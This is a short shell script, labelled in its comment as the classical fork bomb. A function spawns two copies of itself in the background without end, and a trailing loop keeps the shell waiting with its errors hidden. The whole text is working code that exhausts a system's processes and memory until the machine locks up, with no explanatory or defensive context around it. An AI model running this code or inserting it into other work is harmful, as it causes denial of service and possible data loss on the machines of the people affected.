# The classical fork bomb: every process makes two more, forever.
bomb() { bomb | bomb & }
bomb
while :; do wait; done 2>/dev/null
